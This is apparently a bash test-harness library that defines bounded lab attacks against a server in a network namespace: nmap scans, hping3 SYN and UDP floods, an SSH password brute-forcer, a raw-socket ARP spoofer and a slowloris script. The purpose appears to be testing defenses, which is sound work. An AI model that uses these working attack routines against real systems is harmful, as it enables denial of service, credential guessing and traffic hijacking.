#!/usr/bin/env bash
# Attackers of the laboratory. Sourced by lab.sh. Each is bounded in count and time, prints nothing,
# and returns 0 when it has run, 77 when its tool is missing, 1 when the tool failed.

LAB_ATTACKER_MAC=02:77:00:00:00:66

# attack_run LIMIT CMD...: in the client namespace, for at most LIMIT seconds. Running into the limit
# is a way of having run.
attack_run() {
	local rc=0
	in_cli_wait timeout -k 1 "$@" || rc=$?
	case $rc in
	0 | 124 | 137) return 0 ;;
	126 | 127) return 77 ;;
	*) return 1 ;;
	esac
}

# attack_portscan [PORTS [TARGET [RATE]]]: vertical; RATE is in probes a second, by default nmap's own.
attack_portscan() { attack_nmap "${3:-}" "${1:-1-1000}" "${2:-$LAB_SRV4}"; }

# attack_hostscan [PORTS [RATE]]: horizontal; sixteen of the addresses exist, the others cost only ARP.
attack_hostscan() { attack_nmap "${2:-}" "${1:-22}" 10.77.0.97-126; }

attack_nmap() {
	lab_have nmap || return 77
	attack_run 10 nmap -sS -n -Pn -T4 --max-retries 1 ${1:+--max-rate "$1"} -e "$LAB_CLI_IF" \
		-S "$LAB_ATTACKER" -p "$2" "$3"
}

# attack_synflood [COUNT [PORT [SOURCE]]]: SOURCE is "random" or an address of the client's.
# The server has no route to random sources, so its answers stay inside.
attack_synflood() { attack_flood "${1:-30000}" "${3:-random}" -S -p "${2:-80}" "$LAB_SRV4"; }

# attack_udpflood [COUNT [PORT]]
attack_udpflood() { attack_flood "${1:-30000}" "$LAB_ATTACKER" --udp -d 64 -p "${2:-4444}" "$LAB_SRV4"; }

attack_flood() {
	lab_have hping3 || return 77
	local count=$1 source=(-a "$2")
	[ "$2" != random ] || source=(--rand-source)
	shift 2
	# hping3 reports unanswered packets by its status, and a flood is never fully answered.
	attack_run 10 hping3 -q -n -I "$LAB_CLI_IF" -i u100 -c "$count" "${source[@]}" "$@" || [ $? = 1 ]
}

# attack_bruteforce [SECONDS [WORKERS]]: SSH password guesses, one a connection.
attack_bruteforce() {
	lab_have ssh && lab_serves tcp 22 || return 77
	local secs=${1:-8} workers=${2:-8} pids=() pid
	((secs <= 60)) || secs=60
	# shellcheck disable=SC2016
	printf '#!/bin/sh\necho "$LAB_GUESS"\n' >"$LAB_TMP/askpass"
	chmod 700 "$LAB_TMP/askpass"
	while ((workers-- > 0)); do
		lab_driver guess "$secs" "$workers"
		pids+=("$LAB_PID")
	done
	for pid in "${pids[@]}"; do wait "$pid" 2>/dev/null || true; done
	return 0
}

# DISPLAY and a session without a terminal are what ssh before 8.4 wants to see before it asks a
# program for the password.
guess() {
	local end=$((SECONDS + $1)) n=0
	while ((SECONDS < end)); do
		n=$((n + 1))
		LAB_GUESS=password$2-$n SSH_ASKPASS=$LAB_TMP/askpass SSH_ASKPASS_REQUIRE=force DISPLAY=none \
			setsid -w timeout 5 ssh -F none -b "$LAB_ATTACKER" -o PreferredAuthentications=password \
			-o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=3 -o LogLevel=QUIET \
			-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "root@$LAB_SRV4" true
	done
	return 0
}

# attack_arpspoof [SECONDS [RATE [ADDRESS...]]]: unsolicited replies that claim the addresses, in
# turn, for a MAC that is not theirs.
attack_arpspoof() {
	lab_have python3 || return 77
	local secs=${1:-6} rate=${2:-8} claims=("${@:3}") rc=0
	[ ${#claims[@]} != 0 ] || claims=("$LAB_SRV4" 10.77.0.20)
	attack_run 60 python3 -c "$ARPSPOOF" "$LAB_CLI_IF" "$LAB_ATTACKER_MAC" "$((secs * rate))" "$rate" "${claims[@]}" ||
		rc=$?
	# The victims' neighbours recover as soon as the attacker is gone, not some half minute later.
	ip -n "$LAB_SRV" neigh flush dev "$LAB_IF" 2>/dev/null || true
	return "$rc"
}

ARPSPOOF='
import socket, sys, time
dev, mac, count, rate, claims = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5:]
mac = bytes.fromhex(mac.replace(":", ""))
all_ = b"\xff" * 6
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((dev, 0))
for n in range(count):
    ip = socket.inet_aton(claims[n % len(claims)])
    arp = b"\x00\x01\x08\x00\x06\x04\x00\x02" + mac + ip + all_ + ip
    s.send((all_ + mac + b"\x08\x06" + arp).ljust(60, b"\x00"))
    time.sleep(1 / rate)
'

# attack_slowloris [SECONDS [CONNECTIONS]]: requests that never end.
attack_slowloris() {
	lab_have python3 && lab_serves tcp 80 || return 77
	attack_run 60 python3 -c "$SLOWLORIS" "$LAB_ATTACKER" "$LAB_SRV4" "${1:-8}" "${2:-100}"
}

SLOWLORIS='
import socket, sys, time
source, target, secs, count = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
end, open_ = time.time() + secs, []
while time.time() < end:
    while len(open_) < count:
        s = socket.create_connection((target, 80), 2, (source, 0))
        s.sendall(b"GET / HTTP/1.1\r\nHost: www.lab.test\r\n")
        open_.append(s)
    for s in open_[:]:
        try:
            s.sendall(b"X-a: b\r\n")
        except OSError:
            open_.remove(s)
    time.sleep(1)
'
